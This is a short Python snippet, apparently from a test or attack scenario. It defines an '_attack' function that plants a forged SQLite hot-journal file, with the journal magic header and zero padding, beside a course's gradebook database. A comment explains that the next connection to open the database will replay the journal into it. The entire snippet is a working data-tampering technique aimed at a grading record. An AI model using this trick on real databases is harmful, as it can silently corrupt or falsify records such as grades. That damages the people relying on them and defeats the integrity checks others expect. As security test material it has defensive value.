def _attack():
    # a hot journal is replayed into the database by the next connection that opens it
    with open("$course/gradebook.db-journal", "wb") as f:
        f.write(b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7" + b"\0" * 504)
    return "planted gradebook.db-journal"
